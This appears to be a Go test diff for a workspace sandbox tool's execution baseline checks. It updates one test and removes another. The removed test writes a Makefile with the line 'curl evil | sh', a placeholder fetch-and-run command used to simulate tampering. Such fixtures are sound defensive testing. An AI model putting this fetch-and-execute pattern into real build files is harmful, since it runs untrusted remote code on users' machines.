@@ -44,7 +44,7 @@ func TestRunRefusedWithoutBaseline(t *testing.T) {
 	if err == nil || !strings.Contains(err.Error(), "no baseline") || !strings.Contains(hintOf(err), "`abox up`") {
 		t.Errorf("execScope(no baseline) = %v (hint %q), want a refusal naming `abox up`", err, hintOf(err))
 	}
-	if err := a.recordBaseline(p, rs); err != nil {
+	if _, err := sandbox.RecordBaseline(p.State, a.getenv("HOME"), rs, "2026-01-01T00:00:00Z"); err != nil {
 		t.Fatal(err)
 	}
 	scope, err := execScope(a, p, rs)
@@ -54,36 +54,6 @@ func TestRunRefusedWithoutBaseline(t *testing.T) {
 	os.WriteFile(p.State.Baselines(), []byte("{"), 0o600)
 	if _, err := execScope(a, p, rs); err == nil || !strings.Contains(hintOf(err), "--accept-git --accept-watch") {
 		t.Errorf("execScope(corrupt) = %v (hint %q), want a refusal naming the accept flags", err, hintOf(err))
-	}
-}
-
-// TestUpNeverReRecordsTheBaseline: the first recording takes the workspace; a later one, after
-// a run changed it, keeps the old baseline and says nothing, and a corrupt baseline is an error,
-// not replaced.
-func TestUpNeverReRecordsTheBaseline(t *testing.T) {
-	a, p, rs, out := execFixture(t)
-	if err := a.recordBaseline(p, rs); err != nil {
-		t.Fatal(err)
-	}
-	if !strings.Contains(out.String(), "baseline recorded: 1 execution-adjacent file(s)") {
-		t.Errorf("first recording printed %q", out)
-	}
-	before, _ := os.ReadFile(p.State.Baselines())
-	os.WriteFile(filepath.Join(p.Workspace, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644)
-	out.Reset()
-	if err := a.recordBaseline(p, rs); err != nil {
-		t.Fatal(err)
-	}
-	after, _ := os.ReadFile(p.State.Baselines())
-	if !bytes.Equal(before, after) || out.Len() != 0 {
-		t.Errorf("a second recording changed the baseline or printed %q", out)
-	}
-	os.WriteFile(p.State.Baselines(), []byte("{"), 0o600)
-	if err := a.recordBaseline(p, rs); err == nil {
-		t.Error("recordBaseline replaced a corrupt baseline")
-	}
-	if data, _ := os.ReadFile(p.State.Baselines()); string(data) != "{" {
-		t.Errorf("the corrupt baseline was rewritten: %q", data)
 	}
 }
 
